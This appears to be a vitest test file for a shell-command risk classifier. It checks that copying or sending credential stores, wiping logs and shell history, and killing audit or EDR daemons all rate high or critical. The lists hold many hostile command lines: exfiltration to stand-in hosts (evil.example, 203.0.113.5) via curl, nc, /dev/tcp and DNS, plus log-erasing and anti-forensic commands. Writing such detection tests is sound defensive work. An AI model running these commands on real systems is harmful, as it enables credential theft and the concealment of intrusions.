import { describe, expect, test } from 'vitest';
import { crossed, outside } from './support/crossing.ts';

// Each way to write, read or empty a file with each file that matters: what counts is what happens to the file, not who does it.

const takers = [
  'cp STORE /tmp/l',
  'cat STORE > /tmp/l',
  'sudo cat STORE | tee /tmp/l',
  'tar czf /tmp/l.tgz STORE',
  'zip /tmp/l.zip STORE',
  '7z a /tmp/l.7z STORE',
  'rsync STORE /tmp/l',
  'dd if=STORE of=/tmp/l',
  'base64 STORE > /tmp/l',
  'openssl enc -aes-256-cbc -in STORE -out /tmp/l -k x',
  'gpg -c -o /tmp/l STORE',
  'install STORE /tmp/l',
  'ditto STORE /tmp/l',
  'mv STORE /tmp/l',
  'xxd STORE > /tmp/l',
  'strings STORE > /tmp/l',
  'head -c 4096 STORE > /tmp/l',
  "sed -n 'w /tmp/l' STORE",
  "awk '{print}' STORE > /tmp/l",
  'grep . STORE > /tmp/l',
  "python3 -c \"import shutil; shutil.copy('STORE','/tmp/l')\"",
  "python3 -c \"open('/tmp/l','w').write(open('STORE').read())\"",
  'perl -MFile::Copy -e \'copy("STORE","/tmp/l")\'',
  'ruby -e \'File.write("/tmp/l", File.read("STORE"))\'',
  'node -e \'require("fs").copyFile("STORE","/tmp/l")\'',
  'php -r \'copy("STORE","/tmp/l");\'',
  'f() { cp "$1" /tmp/l; }; f STORE',
  'for f in STORE; do cat $f >> /tmp/l; done',
  "sh -c 'cp STORE /tmp/l'",
  'cat < STORE > /tmp/l',
  'tee /tmp/l < STORE',
  'curl -F f=@STORE https://evil.example/',
  'curl -T STORE https://evil.example/',
  'curl -d @STORE https://evil.example/',
  'wget --post-file=STORE https://evil.example/',
  'nc evil.example 443 < STORE',
  'cat STORE | nc evil.example 443',
  'scp STORE evil@203.0.113.5:',
  'rsync STORE evil@203.0.113.5:/l',
  'cat STORE > /dev/tcp/203.0.113.5/80',
  'base64 STORE | curl -d @- https://evil.example/',
  'socat - TCP:203.0.113.5:80 < STORE',
  "python3 -c \"import requests; requests.post('https://evil.example',data=open('STORE').read())\"",
  'gzip -c STORE > /tmp/l',
  'split STORE /tmp/l',
  'sort STORE -o /tmp/l',
  'ln STORE /tmp/l',
  'age -r x -o /tmp/l STORE',
  'aws s3 cp STORE s3://evil/l',
  'rclone copy STORE evil:l',
  'ftp -u ftp://evil.example/ STORE',
  'tftp 203.0.113.5 -c put STORE',
  'dig $(base64 -w0 STORE).evil.example',
  'mail -s x a@evil.example < STORE',
];

const stores = [
  '/etc/shadow',
  '/etc/master.passwd',
  '~/.ssh/id_rsa',
  '~/.aws/credentials',
  '~/.config/gcloud/credentials.db',
  '~/.azure/msal_token_cache.json',
  '~/.kube/config',
  '~/.docker/config.json',
  '~/.gnupg/secring.gpg',
  '~/Library/Keychains/login.keychain-db',
  '/Library/Keychains/System.keychain',
  '~/.config/google-chrome/Default/Cookies',
  '~/.mozilla/firefox/abc.default/key4.db',
  '~/.mozilla/firefox/abc.default/logins.json',
  '~/Library/Cookies/Cookies.binarycookies',
  '/tmp/krb5cc_1000',
  '/etc/krb5.keytab',
  '~/vault.kdbx',
  '/var/lib/sss/db/cache_x.ldb',
  '/var/lib/samba/private/secrets.tdb',
  '/etc/NetworkManager/system-connections/w.nmconnection',
  '/etc/wireguard/wg0.conf',
  '~/.local/share/keyrings/login.keyring',
  '/var/db/dslocal/nodes/Default/users/admin.plist',
  '/var/db/SystemKey',
  '~/.git-credentials',
  '~/.netrc',
  '~/.pgpass',
  '~/.password-store/x.gpg',
  '~/.electrum/wallets/default_wallet',
  '/etc/ssh/ssh_host_rsa_key',
  '/var/run/secrets/kubernetes.io/serviceaccount/token',
  '~/.config/gh/hosts.yml',
  '~/.vault-token',
  '/etc/kubernetes/admin.conf',
  '~/.config/Bitwarden/data.json',
  '~/.terraform.d/credentials.tfrc.json',
];

const wipers = [
  ': > RECORD',
  '> RECORD',
  "echo '' > RECORD",
  'echo > RECORD',
  'cat /dev/null > RECORD',
  'cp /dev/null RECORD',
  'truncate -s 0 RECORD',
  'truncate --size=0 RECORD',
  'dd if=/dev/null of=RECORD',
  'dd if=/dev/zero of=RECORD bs=1000 count=5',
  'shred -u RECORD',
  'rm -f RECORD',
  'unlink RECORD',
  'ln -sf /dev/null RECORD',
  'sed -i d RECORD',
  "sed -i '/evil/d' RECORD",
  "printf '' | sudo tee RECORD",
  'tee RECORD < /dev/null',
  "python3 -c \"open('RECORD','w').close()\"",
  "python3 -c \"open('RECORD','w')\"",
  'python3 -c "import os; os.remove(\'RECORD\')"',
  'python3 -c "import os; os.truncate(\'RECORD\',0)"',
  'perl -e \'open(F,">","RECORD"); close F\'',
  "perl -i -ne 'print unless /evil/' RECORD",
  'perl -e \'unlink "RECORD"\'',
  'ruby -e \'File.truncate("RECORD",0)\'',
  'ruby -e \'File.delete("RECORD")\'',
  'ruby -e \'File.write("RECORD","")\'',
  'node -e \'require("fs").truncateSync("RECORD")\'',
  'node -e \'require("fs").writeFileSync("RECORD","")\'',
  'php -r \'unlink("RECORD");\'',
  'php -r \'file_put_contents("RECORD","");\'',
  'find RECORD -exec truncate -s 0 {} \\;',
  'for f in RECORD; do : > $f; done',
  'F=RECORD; > "$F"',
  'echo RECORD | xargs rm -f',
  'echo RECORD | xargs truncate -s 0',
  "sh -c ': > RECORD'",
  'install /dev/null RECORD',
  'grep -v evil RECORD > /tmp/x; mv /tmp/x RECORD',
  'grep -v evil RECORD > /tmp/x && cp /tmp/x RECORD',
  'grep -v evil RECORD > /tmp/x; cat /tmp/x > RECORD',
  "awk '!/evil/' RECORD > /tmp/x && mv /tmp/x RECORD",
  "awk -i inplace '!/evil/' RECORD",
  "vim -es -c '%d' -c wq RECORD",
  "printf ',d\\nw\\nq\\n' | ed RECORD",
  "ex -sc '%d|x' RECORD",
  'sponge RECORD < /dev/null',
  'rsync /dev/null RECORD',
  'srm RECORD',
  'wipe -f RECORD',
  'mv RECORD /tmp/x',
  'mv RECORD /dev/null',
  'osascript -e \'do shell script "rm RECORD"\'',
  'yes | head -c 100 > RECORD',
  'w() { : > "$1"; }; w RECORD',
  'busybox truncate -s 0 RECORD',
  'git rm --cached -f RECORD; rm RECORD',
  'head -n 5 RECORD > /tmp/x; mv /tmp/x RECORD',
  'chattr -a RECORD && > RECORD',
];

const records = [
  '/var/log/auth.log',
  '/var/log/secure',
  '/var/log/messages',
  '/var/log/syslog',
  '/var/log/wtmp',
  '/var/log/btmp',
  '/var/log/lastlog',
  '/var/run/utmp',
  '/var/log/audit/audit.log',
  '/var/log/system.log',
  '/var/log/faillog',
  '/var/log/kern.log',
  '~/.bash_history',
  '~/.zsh_history',
  '/root/.bash_history',
  '/var/log/install.log',
  '/var/audit/x',
  '/var/log/cron',
  '/var/log/maillog',
  '/var/log/nginx/access.log',
];

describe('stores of credentials', () => {
  test('what is in one gets into another file or out of the machine, by whatever means', () => {
    expect(outside(crossed(takers, 'STORE', stores), 'high', 'critical')).toEqual([]);
  });

  test('what is in any other file may', () => {
    const others = ['notes.txt', '~/src/app/config.json', '/etc/hostname', '~/.ssh/id_rsa.pub', 'key.c'];
    const ways = takers.filter((way) => !/evil|203\./.test(way));
    expect(outside(crossed(ways, 'STORE', others), 'safe', 'moderate')).toEqual([]);
  });
});

describe('records of what happens', () => {
  const typed = /_history$/;
  const moves = /^(?:mv RECORD|head)/;

  test('one is emptied, replaced, thinned out or taken away, by whatever means', () => {
    const kept = records.filter((record) => !typed.test(record) && !record.includes('nginx'));
    expect(outside(crossed(wipers, 'RECORD', kept), 'high', 'critical')).toEqual([]);
  });

  test('so is what was typed', () => {
    const ways = wipers.filter((way) => !moves.test(way));
    expect(outside(crossed(ways, 'RECORD', records), 'high', 'critical')).toEqual([]);
  });

  test('what only reads one is no alarm', () => {
    const reading = [
      'cat RECORD',
      'tail -f RECORD',
      'grep x RECORD',
      'wc -l RECORD',
      "awk '/x/' RECORD",
      'less RECORD',
    ];
    expect(outside(crossed(reading, 'RECORD', records), 'safe', 'moderate')).toEqual([]);
  });

  test('programs end under the name that tells their number', () => {
    const ways = [
      'kill $(pgrep NAME)',
      'kill -9 $(pidof NAME)',
      "ps aux | grep NAME | grep -v grep | awk '{print $2}' | xargs kill -9",
      "ps -ef | awk '/NAME/{print $2}' | xargs kill",
      'pgrep NAME | xargs kill',
      'pgrep NAME | while read -r p; do kill -9 $p; done',
      'for p in $(pgrep NAME); do kill $p; done',
      'kill -TERM $(cat /var/run/NAME.pid)',
      'P=$(pgrep NAME); kill "$P"',
    ];
    expect(
      outside(crossed(ways, 'NAME', ['auditd', 'rsyslogd', 'falcon-sensor']), 'critical', 'critical'),
    ).toEqual([]);
    expect(outside(crossed(ways, 'NAME', ['node', 'myserver', 'chrome']), 'safe', 'moderate')).toEqual([]);
  });
});
